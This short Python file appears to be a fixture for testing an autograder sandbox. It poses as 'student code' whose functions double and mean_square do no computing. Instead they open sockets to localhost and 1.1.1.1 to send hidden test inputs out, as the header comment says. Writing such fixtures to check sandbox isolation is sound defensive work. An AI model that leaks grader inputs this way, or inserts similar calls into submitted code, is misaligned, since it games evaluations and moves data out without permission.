# tries: to send the hidden inputs home
# plain: calls

import socket

sent = []


def send(text):
    for host, port in (("127.0.0.1", int("@PORT@" if "@PORT@".isdigit() else 9)), ("1.1.1.1", 53)):
        try:
            with socket.create_connection((host, port), 0.2) as sock:
                sock.sendall(text.encode())
                sent.append(host)
        except OSError:
            pass


send("HELLO from student code")


def double(x):
    send(repr(x))
    return sent


def mean_square(x):
    return sent
